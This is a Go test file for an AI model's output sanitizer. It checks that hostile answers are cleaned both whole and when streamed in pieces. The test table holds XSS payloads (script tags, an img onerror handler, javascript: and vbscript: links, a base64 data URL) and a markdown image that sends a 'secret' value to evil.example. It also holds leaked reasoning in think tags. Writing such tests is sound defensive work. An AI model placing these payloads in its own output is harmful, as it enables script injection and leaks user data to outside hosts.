package assistant

import (
	"strings"
	"testing"
)

// hostile are model answers that try to show markup, load or link
// something, or leak reasoning; the words in capitals must survive.
var hostile = []struct {
	name, text string
	banned     []string
}{
	{"script", `KEEP1 <script>alert(1)</script> KEEP2`, []string{"<script"}},
	{"script rebuilt from halves", `KEEP1 <<b>script>alert(1)<</b>/script> KEEP2`, []string{"<script", "</script"}},
	{"image", `KEEP1 ![x](https://evil.example/p.png?d=secret) KEEP2`, []string{"evil.example", "!["}},
	{"javascript link", `KEEP1 [click](javascript:alert(1)) KEEP2`, []string{"javascript:", "](", "alert"}},
	{"vbscript link", `KEEP1 [click](vbscript:msgbox) KEEP2`, []string{"vbscript:", "msgbox"}},
	{"bare www", `KEEP1 www.evil.example/x KEEP2`, []string{"www.", "evil.example"}},
	{"bare https", `KEEP1 https://evil.example/x?q=1 KEEP2`, []string{"https:", "evil.example"}},
	{"data URL", `KEEP1 data:text/html;base64,PHNjcmlwdD4= KEEP2`, []string{"data:", "base64"}},
	{"img tag", `KEEP1 <img src=x onerror=alert(1)> KEEP2`, []string{"<img", "onerror"}},
	{"reasoning", "<think>the member is SECRET</think>KEEP1 本文 KEEP2", []string{"SECRET", "think"}},
	{"reasoning in capitals", "<THINKING>SECRET plan</THINKING>\nKEEP1 KEEP2", []string{"SECRET"}},
	{"reasoning never closed", "KEEP1 KEEP2 <think>SECRET forever", []string{"SECRET"}},
	{"Japanese around a URL", "KEEP1はhttps://evil.example/aです。KEEP2", []string{"evil.example"}},
}

func TestSanitize(t *testing.T) {
	for _, tt := range hostile {
		check := func(how, got string) {
			for _, b := range tt.banned {
				if strings.Contains(strings.ToLower(got), strings.ToLower(b)) {
					t.Errorf("%s, %s: %q holds %q", tt.name, how, got, b)
				}
			}
			if !strings.Contains(got, "KEEP1") || !strings.Contains(got, "KEEP2") {
				t.Errorf("%s, %s: %q lost the text around it", tt.name, how, got)
			}
		}
		check("whole", sanitize(tt.text))
		// Streamed in pieces of every size: no split lets markup through.
		rs := []rune(tt.text)
		for size := 1; size <= 8; size++ {
			var z streamSanitizer
			var out strings.Builder
			for i := 0; i < len(rs); i += size {
				out.WriteString(z.write(string(rs[i:min(i+size, len(rs))])))
			}
			out.WriteString(z.flush())
			check("streamed by "+string(rune('0'+size)), out.String())
		}
	}
}

// TestStreamSanitizerDoesNotHoldText: ordinary text goes out as it comes,
// but for a word that may still grow into a URL.
func TestStreamSanitizerDoesNotHoldText(t *testing.T) {
	var z streamSanitizer
	if got := z.write("まず話を聞きましょう"); got != "まず話を聞きましょう" {
		t.Errorf("Japanese text held back: %q", got)
	}
	if got := z.write("。Ask about her goals [1] and wh"); got != "。Ask about her goals [1] and " {
		t.Errorf("got %q", got)
	}
	if got := z.write("at she needs"); got != "what she " {
		t.Errorf("got %q", got)
	}
	if got := z.flush(); got != "needs" {
		t.Errorf("flush = %q", got)
	}
}
